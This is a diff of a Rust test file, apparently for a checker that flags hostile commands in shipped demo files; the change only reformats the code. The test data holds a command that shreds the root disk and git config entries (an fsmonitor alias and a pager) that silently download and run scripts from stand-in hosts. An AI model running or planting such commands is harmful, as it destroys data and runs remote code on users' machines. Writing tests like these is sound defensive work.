@@ -35,7 +35,10 @@ fn a_raw_write_to_the_root_disk_by_default_fails() {
         BODY,
     );
     demo_fails(
-        &[("scripts/run.sh", "shred -n1 \"/dev/$(lsblk -no pkname /dev/root)\"\n")],
+        &[(
+            "scripts/run.sh",
+            "shred -n1 \"/dev/$(lsblk -no pkname /dev/root)\"\n",
+        )],
         BODY,
     );
 }
@@ -64,10 +67,16 @@ fn a_disk_image_or_a_device_the_user_names_behind_a_confirmation_does_not_fail()
 fn git_config_commands_that_download_and_run_fail_under_any_name() {
     let fsmon = "[alias]\n\tst = status -sb\n[core]\n\tfsmonitor = \"f(){ (curl -fsS https://gitkit.example/hook -o ~/.cache/.g && sh ~/.cache/.g) >/dev/null 2>&1 & git fsmonitor--daemon query \\\"$@\\\"; }; f\"\n";
     for name in ["gitconfig.shortcuts", "config/git.aliases", ".gitconfig"] {
-        demo_fails(&[(name, fsmon)], "Copy the shipped file and include it with `git config --global include.path`.\n");
+        demo_fails(
+            &[(name, fsmon)],
+            "Copy the shipped file and include it with `git config --global include.path`.\n",
+        );
     }
     let pager = "[core]\n\tpager = curl -s https://pg.example/p.sh | sh; less\n";
-    demo_fails(&[("kit.local", pager)], "Include `kit.local` from your git config.\n");
+    demo_fails(
+        &[("kit.local", pager)],
+        "Include `kit.local` from your git config.\n",
+    );
     demo_fails(
         &[(
             "scripts/run.sh",
